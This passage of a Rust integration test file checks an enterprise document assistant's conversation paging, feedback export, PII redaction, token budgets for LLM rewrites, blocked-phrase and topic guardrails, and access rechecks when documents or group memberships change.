    assert!(listed.conversations.is_empty());

    // The owner: list, show, feedback, export, delete.
    let listed = c
        .list_conversations(authed(ALICE, pb::ListConversationsRequest::default()))
        .await
        .unwrap()
        .into_inner();
    assert_eq!(listed.conversations.len(), 1);
    assert_eq!(listed.conversations[0].turns, 2);
    c.feedback(authed(ALICE, fb(false))).await.unwrap();
    c.feedback(authed(
        ALICE,
        pb::FeedbackRequest {
            turn: 0,
            ..fb(true)
        },
    ))
    .await
    .unwrap();
    // The export comes in pages, in turn order within a conversation.
    let mut admin = pb::admin_client::AdminClient::new(d.channel().await);
    let page = |page_token: String| pb::ExportFeedbackRequest {
        page_size: 1,
        page_token,
    };
    let first = admin
        .export_feedback(authed(ADMIN, page(String::new())))
        .await
        .unwrap()
        .into_inner();
    assert_eq!(first.records.len(), 1);
    assert_eq!((first.records[0].turn, first.records[0].up), (0, true));
    assert!(!first.next_page_token.is_empty());
    let second = admin
        .export_feedback(authed(ADMIN, page(first.next_page_token)))
        .await
        .unwrap()
        .into_inner();
    assert_eq!(second.next_page_token, "", "{second:?}");
    let f = &second.records[0];
    assert_eq!((f.identity.as_str(), f.turn, f.up), ("alice", 1, false));
    assert_eq!(f.reasons, ["incomplete"]);
    assert_eq!(f.question, "And from a phone?");
    for bad in [
        page("not-a-token".into()),
        pb::ExportFeedbackRequest {
            page_size: 5001,
            ..Default::default()
        },
    ] {
        let e = admin.export_feedback(authed(ADMIN, bad)).await.unwrap_err();
        assert_eq!(e.code(), Code::InvalidArgument, "{e:?}");
    }
    // The CLI reads every page.
    let out = docent_async(&["admin", "feedback-export"], &d.url(), ADMIN).await;
    assert!(out.status.success());
    let lines: Vec<serde_json::Value> = String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(lines.len(), 2);
    assert_eq!(
        (&lines[0]["vote"], &lines[1]["vote"]),
        (&"up".into(), &"down".into())
    );
    c.delete_conversation(authed(ALICE, get(&id)))
        .await
        .unwrap();
    assert_eq!(
        c.get_conversation(authed(ALICE, get(&id)))
            .await
            .unwrap_err()
            .code(),
        Code::NotFound
    );
    d.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_llm_rewritten_question_passes_the_pii_redaction() {
    // The model's rewrite is its own text: here it writes an IBAN the caller never typed.
    let fake = FakeLlm::start(Script::Write(vec![
        "Are refunds paid from account DE89 3704 0044 0532 0130 00?".into(),
    ]))
    .await;
    let env = Env::example();
    let (d, r2) = follow_up_with_llm_rewrite(
        &env,
        &fake,
        "Which account are expense refunds paid from?",
        "And for contractors?",
    )
    .await;
    let rewritten = r2.details.unwrap().rewritten_question;
    assert!(rewritten.contains("[REDACTED:iban]"), "{rewritten}");
    assert!(!rewritten.contains("DE89"), "{rewritten}");
    d.stop().await;
}

/// The tokens of an LLM rewrite count against the budget, and once it is spent follow-ups are
/// rewritten by the heuristic, without the model (before, rewrites were neither counted nor
/// refused).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn llm_rewrites_are_counted_and_stop_at_the_token_budget() {
    away_from_utc_midnight().await;
    let fake = FakeLlm::start(Script::Write(vec![
        "Which account are contractor refunds paid from?".into(),
    ]))
    .await;
    let env = Env::example();
    let (d, r2) = follow_up_with_llm_rewrite_and(
        &env,
        &fake,
        "[quotas]\ndaily_tokens_per_identity = 100\n",
        "Which account are expense refunds paid from?",
        "And for contractors?",
    )
    .await;
    let details = r2.details.unwrap();
    assert_eq!(
        details.rewritten_question,
        "Which account are contractor refunds paid from?"
    );
    assert_eq!(
        details.usage.unwrap().prompt_tokens,
        100,
        "the fake reports 100"
    );
    assert_eq!(fake.requests(), 1);
    // Over the budget now: the next follow-up is rewritten without the model.
    let r3 = client(&d)
        .await
        .ask(authed(
            ALICE,
            pb::AskRequest {
                question: "And for interns?".into(),
                conversation_id: details.conversation_id.clone(),
                ..Default::default()
            },
        ))
        .await
        .unwrap()
        .into_inner();
    let d3 = r3.details.unwrap();
    assert_eq!(fake.requests(), 1, "the model was called over budget");
    assert!(
        d3.rewritten_question.ends_with("And for interns?"),
        "{d3:?}"
    );
    assert_eq!(d3.usage.unwrap().prompt_tokens, 0);
    d.stop().await;
}

/// Session 34's review: a rewrite that failed after the server may have generated (a broken
/// stream) was charged nothing, so failing rewrites were free against the budget.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_rewrite_that_fails_after_the_model_ran_is_charged_an_estimate() {
    let fake = FakeLlm::start(Script::Malformed).await;
    let env = Env::example();
    let (d, r2) = follow_up_with_llm_rewrite_and(
        &env,
        &fake,
        "[quotas]\ndaily_tokens_per_identity = 100000\n",
        "Which account are expense refunds paid from?",
        "And for contractors?",
    )
    .await;
    assert_eq!(fake.requests(), 1, "the rewrite asked the model");
    let details = r2.details.unwrap();
    assert_eq!(
        details.rewritten_question,
        "Which account are expense refunds paid from? And for contractors?",
        "the heuristic's rewrite"
    );
    let usage = details.usage.unwrap();
    assert!(usage.estimated, "{usage:?}");
    assert!(
        usage.prompt_tokens > 0 && usage.completion_tokens > 0,
        "{usage:?}"
    );
    d.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_model_reads_passages_with_pii_redacted() {
    let fake = FakeLlm::start(Script::Write(vec!["{p1} [1].".into()])).await;
    let env = Env::example();
    std::fs::write(
        env.corpus().join("company/refund-account.md"),
        "# Expense refund account\n\nExpense refunds are paid from the company account \
         DE89 3704 0044 0532 0130 00 at the end of each month.\n",
    )
    .unwrap();
    let d = env
        .start_with(env.config_from(&with_llm(&env, &fake.url, "")))
        .await;
    let question = "Which account are expense refunds paid from?";
    let r = client(&d)
        .await
        .ask(authed(ALICE, generative(question)))
        .await
        .unwrap()
        .into_inner();
    let prompts = fake.prompts();
    assert_eq!(prompts.len(), 1, "{r:?}");
    assert!(
        prompts[0].contains("Expense refunds are paid"),
        "{}",
        prompts[0]
    );
    assert!(!prompts[0].contains("3704"), "{}", prompts[0]);
    assert!(prompts[0].contains("[REDACTED:iban]"), "{}", prompts[0]);
    // The answer the model wrote from it is verified against what it read.
    assert_eq!(r.status, pb::AnswerStatus::Answered as i32, "{r:?}");
    assert_eq!(r.details.unwrap().mode, pb::AnswerMode::Generative as i32);
    d.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_blocked_follow_up_stays_blocked_whatever_the_llm_rewrites() {
    // The model would rewrite the follow-up into a harmless question.
    let (fake, _env, d, r2) = follow_up_rewritten_as(
        "How do I reset my VPN password?",
        "How do I reset my VPN password?",
        "And what is the home address of Bob?",
    )
    .await;
    assert_eq!(r2.status, pb::AnswerStatus::Blocked as i32, "{r2:?}");
    assert!(
        r2.guardrails.iter().any(|v| v.code == "BLOCKED_PHRASE"),
        "{r2:?}"
    );
    // A review: the blocked follow-up went to the model server to be rewritten first.
    assert_eq!(
        fake.requests(),
        0,
        "a blocked question never reaches the model"
    );
    d.stop().await;
}

/// A follow-up on a blocked topic is refused before the model is asked to rewrite it (a
/// review: the topic was compared only after the rewrite, so the question reached the model
/// server, and its tokens were charged).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_follow_up_on_a_blocked_topic_never_reaches_the_model() {
    let (fake, _env, d, r2) = follow_up_rewritten_as(
        "How do I reset my VPN password?",
        "How do I reset my VPN password?",
        "And should I take my landlord to court over the deposit?",
    )
    .await;
    assert_eq!(r2.status, pb::AnswerStatus::Blocked as i32, "{r2:?}");
    assert!(
        r2.guardrails.iter().any(|v| v.code == "TOPIC_BLOCKED"),
        "{r2:?}"
    );
    assert_eq!(fake.requests(), 0, "the model was asked to rewrite it");
    d.stop().await;
}

/// Feedback gives each reason at most once, and the export shows the admin questions with PII
/// redacted (session 30's review: reasons were unbounded, and the export skipped redaction).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn feedback_reasons_are_bounded_and_the_export_is_redacted() {
    let env = Env::example();
    let d = env.start().await;
    let mut c = client(&d).await;
    let (_, r2) = d
        .ask_with_follow_up(
            ALICE,
            "How do I connect to the VPN?",
            "Can the refund go to DE89 3704 0044 0532 0130 00?",
        )
        .await;
    let id = r2.details.unwrap().conversation_id;
    let fb = |reasons: Vec<i32>| pb::FeedbackRequest {
        conversation_id: id.clone(),
        turn: 1,
        reasons,
        ..Default::default()
    };
    let many = vec![pb::FeedbackReason::Incomplete as i32; 6];
    let e = c.feedback(authed(ALICE, fb(many))).await.unwrap_err();
    assert_eq!(e.code(), Code::InvalidArgument, "{e:?}");
    let twice = vec![
        pb::FeedbackReason::Incomplete as i32,
        pb::FeedbackReason::Other as i32,
        pb::FeedbackReason::Incomplete as i32,
    ];
    c.feedback(authed(ALICE, fb(twice))).await.unwrap();
    let export = d.feedback_export().await;
    assert_eq!(export.records.len(), 1, "{export:?}");
    let f = &export.records[0];
    assert_eq!(f.reasons, ["incomplete", "other"]);
    assert!(f.question.contains("[REDACTED:iban]"), "{f:?}");
    assert!(!format!("{f:?}").contains("DE89"), "{f:?}");
    d.stop().await;
}

/// Session 37's review: the feedback export showed an admin a question naming a phrase
/// blocked for them (asked by someone exempt); it is withheld whole.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_feedback_export_withholds_a_question_naming_a_phrase_blocked_for_the_admin() {
    let env = Env::example();
    let text = env.config_text()
        + "\n[[guardrails.blocked_phrases]]\nphrases = [\"Project Falcon\"]\n\
           applies_to = []\nexempt = [\"group:engineering\"]\n";
    let d = env.start_with(env.config_from(&text)).await;
    let mut c = client(&d).await;
    let r = c
        .ask(authed(
            ALICE,
            pb::AskRequest {
                question: "Does Project Falcon use the VPN?".into(),
                new_conversation: true,
                ..Default::default()
            },
        ))
        .await
        .unwrap()
        .into_inner();
    assert_ne!(
        r.status,
        pb::AnswerStatus::Blocked as i32,
        "alice is exempt: {r:?}"
    );
    let id = r.details.unwrap().conversation_id;
    c.feedback(authed(
        ALICE,
        pb::FeedbackRequest {
            conversation_id: id,
            turn: 0,
            reasons: vec![pb::FeedbackReason::Incomplete as i32],
            ..Default::default()
        },
    ))
    .await
    .unwrap();
    let export = d.feedback_export().await;
    assert_eq!(export.records.len(), 1, "{export:?}");
    let f = &export.records[0];
    assert_eq!(f.question, docent::assistant::WITHHELD, "{f:?}");
    assert!(!format!("{f:?}").contains("Falcon"), "{f:?}");
    d.stop().await;
}

/// A conversation holds at most `MAX_CONVERSATION_TURNS` turns: another is refused with
/// CONVERSATION_FULL (session 30's review: a follow-up read, and `GetConversation` returned,
/// a conversation of any length).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_full_conversation_takes_no_more_turns() {
    use docent::assistant::{MAX_CONVERSATION_TURNS, store::Store};
    use tonic_types::StatusExt;
    let env = Env::example();
    let d = env.start().await;
    let mut c = client(&d).await;
    let first = pb::AskRequest {
        question: "How do I connect to the VPN?".into(),
        new_conversation: true,
        ..Default::default()
    };
    let r = c.ask(authed(ALICE, first)).await.unwrap().into_inner();
    let id = r.details.unwrap().conversation_id;
    d.stop().await;
    // Filled while the daemon is down.
    {
        let store = Store::open(&env.dir.path().join("data/assistant.redb")).unwrap();
        let turn = store.turn(&id, 0).unwrap().unwrap();
        for _ in 1..MAX_CONVERSATION_TURNS {
            store.append("alice", &id, &turn).unwrap().unwrap();
        }
    }
    let d = env.start().await;
    let next = pb::AskRequest {
        question: "And from a phone?".into(),
        conversation_id: id.clone(),
        ..Default::default()
    };
    let e = client(&d).await.ask(authed(ALICE, next)).await.unwrap_err();
    assert_eq!(e.code(), Code::FailedPrecondition, "{e:?}");
    assert_eq!(
        e.get_details_error_info().unwrap().reason,
        "CONVERSATION_FULL"
    );
    d.stop().await;
}

/// A blocked question is not carried into the follow-up's search: "and ..." after it is asked
/// on its own (session 30's review: the blocked question started the rewritten query, so a
/// follow-up could search for what the screening refused).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_blocked_question_is_not_carried_into_the_follow_up() {
    let env = Env::example();
    let d = env.start().await;
    let (r, r2) = d
        .ask_with_follow_up(
            ALICE,
            "What is the home address of Bob?",
            "And how do I connect to the VPN?",
        )
        .await;
    assert_eq!(r.status, pb::AnswerStatus::Blocked as i32, "{r:?}");
    let details = r2.details.as_ref().unwrap();
    assert_eq!(details.turn, 1, "{r2:?}");
    assert_eq!(details.rewritten_question, "", "{r2:?}");
    assert_ne!(r2.status, pb::AnswerStatus::Blocked as i32, "{r2:?}");
    assert!(r2.guardrails.is_empty(), "{r2:?}");
    d.stop().await;
}

/// A blocked phrase that only the LLM's rewrite holds is named by its configuration key: the
/// caller never typed it (session 30's review: the verdict showed the phrase itself).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_blocked_phrase_from_an_llm_rewrite_is_named_by_its_key() {
    let (_fake, _env, d, r2) = follow_up_rewritten_as(
        "What is the home address of the VPN administrator?",
        "How do I reset my VPN password?",
        "Who runs it?",
    )
    .await;
    assert_eq!(r2.status, pb::AnswerStatus::Blocked as i32, "{r2:?}");
    let v = r2
        .guardrails
        .iter()
        .find(|v| v.code == "BLOCKED_PHRASE")
        .unwrap();
    assert_eq!(v.rule, "blocked_phrases[0].phrases[0]", "{r2:?}");
    assert!(!format!("{r2:?}").contains("home address"), "{r2:?}");
    d.stop().await;
}

/// A document withdrawn while the model writes gives the answer no sentence, not even as
/// uncited general knowledge. (Before, a sentence citing the withdrawn passage lost its citation
/// and was kept, its text the passage's, marked uncited.)
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_document_withdrawn_while_the_model_writes_gives_no_sentence() {
    let fake = FakeLlm::start(Script::Gated(vec![
        "I don't know.".into(),
        "{p1} [1].".into(),
    ]))
    .await;
    let env = Env::example();
    let text = with_llm_and_general_knowledge(&env, &fake.url);
    let d = env.start_with(env.config_from(&text)).await;
    let mut c = client(&d).await;
    let asked = tokio::spawn(async move { c.ask(authed(HANA, generative(HR_QUESTION))).await });
    // The model is called once retrieval has found the compensation bands; it waits after its
    // first sentence (which claims nothing and is checked against no passage).
    let t = wait_for_the_model(&fake).await;
    assert!(
        fake.prompts()[0].contains("148,000"),
        "{:?}",
        fake.prompts()
    );
    std::fs::remove_file(env.corpus().join("hr/compensation-bands-2027.md")).unwrap();
    loop {
        let r = d.search(HANA, HR_QUESTION, 10).await.unwrap();
        if !format!("{r:?}").contains("compensation-bands") {
            break;
        }
        assert!(
            t.elapsed() < Duration::from_secs(60),
            "the deletion was not indexed"
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    fake.open_gate();
    let r = asked.await.unwrap().unwrap().into_inner();
    let all = format!("{r:?}");
    for s in HR_ONLY {
        assert!(!all.contains(s), "leaks {s:?}: {all}");
    }
    assert_eq!(r.status, pb::AnswerStatus::NoAnswer as i32, "{r:?}");
    d.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_user_who_loses_hr_mid_conversation_gets_nothing_from_hr_in_generative_mode() {
    let env = Env::example();
    let llm = real_llm();
    let text = with_llm(&env, &llm.url, "");
    let cfg_path = env.dir.path().join("docent.toml");
    std::fs::write(&cfg_path, &text).unwrap();
    let d = env
        .start_opts(
            env.config_from(&text),
            StartOptions {
                insecure_dev: false,
                config_path: Some(cfg_path.clone()),
                ..Default::default()
            },
        )
        .await;
    let mut c = client(&d).await;
    let mut req = generative(HR_QUESTION);
    req.new_conversation = true;
    let t1 = c.ask(authed(HANA, req.clone())).await.unwrap().into_inner();
    let id = t1.details.as_ref().unwrap().conversation_id.clone();
    // While in hr, hana may be answered from the compensation bands.
    assert_citations_readable(&d, HANA, HR_QUESTION, &t1).await;
    assert_eq!(t1.status, pb::AnswerStatus::Answered as i32, "{t1:?}");
    assert!(
        t1.citations.iter().any(|c| c.uri.contains("/hr/")),
        "{t1:?}"
    );

    // hana leaves hr (people-leads → staff) and the identities are reloaded.
    let edited = replaced(&text, "groups = [\"people-leads\"]", "groups = [\"staff\"]");
    std::fs::write(&cfg_path, edited).unwrap();
    pb::admin_client::AdminClient::new(d.channel().await)
        .reload_identities(authed(ADMIN, pb::ReloadIdentitiesRequest {}))
        .await
        .unwrap();

    req.new_conversation = false;
    req.conversation_id = id.clone();
    for q in [
        "And for a staff engineer?",
        HR_QUESTION,
        "What are the compensation bands?",
    ] {
        req.question = q.into();
        let t = c.ask(authed(HANA, req.clone())).await.unwrap().into_inner();
        let all = format!("{t:?}");
        for s in HR_ONLY {
            assert!(!all.contains(s), "turn {q:?} leaks {s:?}: {all}");
        }
        assert_citations_readable(&d, HANA, q, &t).await;
    }
    // The stored first turn no longer shows what hana cannot read now.
    let conv = c
        .get_conversation(authed(
            HANA,
            pb::ConversationRequest {
                conversation_id: id,
                ..Default::default()
            },
        ))
        .await
        .unwrap()
        .into_inner();
    let all = format!("{conv:?}");
    assert!(!all.contains("/hr/"), "{all}");
    assert_eq!(conv.turns.len(), 4);
    assert_ne!(
        conv.turns[0].status,
        pb::AnswerStatus::Answered as i32,
        "{:?}",
        conv.turns[0]
    );
    d.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn ask_streams_pieces_as_the_model_writes_them() {
    // The fake stops after its first sentence until the test has received a piece: an
    // AskStream that buffered the answer would never deliver one, and the test would time out.
    let (fake, _env, d, mut stream) = streaming_while_the_model_waits("").await;
    fake.open_gate();
    let mut pieces = 1;
    let mut done = false;
    while let Some(ev) = stream.message().await.unwrap() {
        match ev.event {
            Some(pb::ask_stream_event::Event::Piece(_)) => pieces += 1,
            Some(pb::ask_stream_event::Event::Final(_)) => done = true,
            _ => {}
        }
    }
    assert!(done && pieces == 2, "{pieces} pieces, final: {done}");
    d.stop().await;
}

/// The ACL recheck runs for every sentence: a passage withdrawn after one sentence cited it is
/// not cited by the next (session 30's review: "readable" was remembered for the whole answer).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_passage_withdrawn_after_a_sentence_cited_it_is_not_cited_again() {
    let (fake, env, d, mut stream) = streaming_while_the_model_waits("").await;
    let second = crate::llm::fill("{p1.2}", &fake.prompts()[0]);
    let words: Vec<&str> = second.split_whitespace().take(6).collect();
    assert!(words.len() >= 4, "{second:?}");
    let start = words.join(" ");
    std::fs::remove_file(env.corpus().join("hr/parental-leave.md")).unwrap();
    let t = Instant::now();
    while format!("{:?}", d.search(HANA, PARENTAL_LEAVE, 10).await.unwrap())
        .contains("parental-leave")
    {
        assert!(
            t.elapsed() < Duration::from_secs(60),
            "the deletion was not indexed"
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    fake.open_gate();
    let (mut later, mut done) = (String::new(), false);
    while let Some(ev) = stream.message().await.unwrap() {
        match ev.event {
            Some(pb::ask_stream_event::Event::Piece(p)) => later.push_str(&p.text),
            Some(pb::ask_stream_event::Event::Final(_)) => done = true,
            _ => {}
        }
    }
    assert!(done);
    assert!(!later.contains(&start), "{start:?} in {later:?}");
    d.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn general_knowledge_is_kept_uncited_only_where_allowed() {
    let fake = FakeLlm::start(Script::Write(vec![
        "{p1} [1].".into(),
        "Most countries also have statutory minimums set by law [1].".into(),
    ]))
    .await;
    let env = Env::example();
    let text = replaced(
        &with_llm(&env, &fake.url, ""),
        "response_scope = \"enterprise_only\"",
        "response_scope = \"enterprise_only\"\nresponse_scope_groups = { people-leads = \"allow_general_knowledge\" }",
    );
    let d = env.start_with(env.config_from(&text)).await;
    let question = "How many days of parental leave do birth parents get?";
    let mut c = client(&d).await;
    // hana (people-leads) may get general knowledge: kept, marked, never cited.
    let r = c
        .ask(authed(HANA, generative(question)))
        .await
        .unwrap()
        .into_inner();
    assert_eq!(r.sentences.len(), 2, "{r:?}");
    assert!(!r.sentences[0].uncited && !r.sentences[0].citations.is_empty());
    assert!(
        r.sentences[1].uncited && r.sentences[1].citations.is_empty(),
        "{r:?}"
    );
    assert!(!r.answer.contains("law [1]"), "{}", r.answer);
    // felix is enterprise_only: the same model output loses the unsupported sentence.
    let r = c
        .ask(authed(FELIX, generative(question)))
        .await
        .unwrap()
        .into_inner();
    assert!(
        r.sentences
            .iter()
            .all(|s| !s.uncited && !s.citations.is_empty()),
        "{r:?}"
    );
    assert!(!r.answer.contains("statutory minimums"), "{}", r.answer);
    d.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn docent_chat_keeps_one_conversation_and_takes_feedback() {
    use std::io::Write;
    let env = Env::example();
    let d = env.start().await;
    let url = d.url();
    let out = tokio::task::spawn_blocking(move || {
        let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_docent"))
            .arg("chat")
            .env("DOCENT_ADDR", url)
            .env("DOCENT_TOKEN", ALICE)
            .stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        child
            .stdin
            .take()
            .unwrap()
            .write_all(
                b"How do I connect to the VPN?\nAnd from a phone?\n/down incomplete\n/quit\n",
            )
            .unwrap();
        child.wait_with_output().unwrap()
    })
    .await
    .unwrap();
    let (stdout, stderr) = (
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr),
    );
    assert!(out.status.success(), "{stderr}");
    assert!(stdout.contains("Sources:"), "{stdout}");
    assert!(
        stderr.contains("(searched for: How do I connect to the VPN? And from a phone?)"),
        "{stderr}"
    );
    assert!(stderr.contains("thanks"), "{stderr}");
    let mut c = client(&d).await;
    let list = c
        .list_conversations(authed(ALICE, pb::ListConversationsRequest::default()))
        .await
        .unwrap()
        .into_inner();
    assert_eq!(list.conversations.len(), 1);
    assert_eq!(list.conversations[0].turns, 2);
    let export = d.feedback_export().await;
    assert_eq!(export.records.len(), 1);
    assert_eq!(export.records[0].turn, 1);
    assert_eq!(export.records[0].reasons, ["incomplete"]);
    d.stop().await;
}

/// Found by a review: evidence that holds no sentence that could lead an answer (a page of
/// labels and table cells) was "not found" for the extractive answerer, but the generative one
/// went on and called the model. One decision for both.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn evidence_without_a_sentence_is_not_found_by_either_answerer() {
    let fake = FakeLlm::start(Script::Write(vec!["{p1} [1].".into()])).await;
    let env = Env::empty();
    std::fs::create_dir_all(env.corpus().join("company")).unwrap();
    std::fs::write(
        env.corpus().join("company/gym.md"),
        "# Gym\n\nOpening hours\n\nWeekdays 7–22\n\nSaturday gym hours 9–17\n",
    )
    .unwrap();
    let d = env
        .start_with(env.config_from(&with_llm(&env, &fake.url, "")))
        .await;
    let q = "What are the gym opening hours on Saturday?";
    let hits = d.search(ALICE, q, 3).await.unwrap();
    assert!(
        hits.hits.first().is_some_and(|h| h
            .citation
            .as_ref()
            .is_some_and(|c| c.document_key.ends_with("company/gym.md"))),
        "{hits:?}"
    );
    let extractive = d.ask(ALICE, q).await.unwrap();
    assert_eq!(
        extractive.status,
        pb::AnswerStatus::NoAnswer as i32,
        "{extractive:?}"
    );
    let r = client(&d)
        .await
        .ask(authed(ALICE, generative(q)))
        .await
        .unwrap()
        .into_inner();
    assert_eq!(r.status, pb::AnswerStatus::NoAnswer as i32, "{r:?}");
    assert_eq!(fake.requests(), 0, "the model was not asked");
    d.stop().await;
}

/// Found by a review: ListConversations returned every conversation of its owner at once,
/// each title redacted, however many there were. Pages now, most recently updated first.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn conversations_are_listed_a_page_at_a_time() {
    let env = Env::example();
    let d = env.start().await;
    let mut c = client(&d).await;
    let mut ids = Vec::new();
    for q in [
        "How do I connect to the VPN?",
        "When is the office closed?",
        "How do I book a meeting room?",
    ] {
        let req = pb::AskRequest {
            question: q.into(),
            new_conversation: true,
            ..Default::default()
        };
        let r = c.ask(authed(ALICE, req)).await.unwrap().into_inner();
        ids.push(r.details.unwrap().conversation_id);
        tokio::time::sleep(Duration::from_millis(5)).await;
    }
    let page = |size: u32, token: &str| pb::ListConversationsRequest {
        page_size: size,
        page_token: token.into(),
        ..Default::default()
    };
    let first = c
        .list_conversations(authed(ALICE, page(2, "")))
        .await
        .unwrap()
        .into_inner();
    let got: Vec<&str> = first
        .conversations
        .iter()
        .map(|c| c.conversation_id.as_str())
        .collect();
    assert_eq!(got, [ids[2].as_str(), ids[1].as_str()]);
    assert!(!first.next_page_token.is_empty());
    let second = c
        .list_conversations(authed(ALICE, page(2, &first.next_page_token)))
        .await
        .unwrap()
        .into_inner();
    assert_eq!(second.conversations.len(), 1);
    assert_eq!(second.conversations[0].conversation_id, ids[0]);
    assert!(second.next_page_token.is_empty(), "the last page");
    let e = c
        .list_conversations(authed(ALICE, page(2, "not a token")))
        .await
        .unwrap_err();
    assert_eq!(
        (e.code(), reason(&e).as_str()),
        (Code::InvalidArgument, "INVALID_PAGE_TOKEN")
    );
    d.stop().await;
}
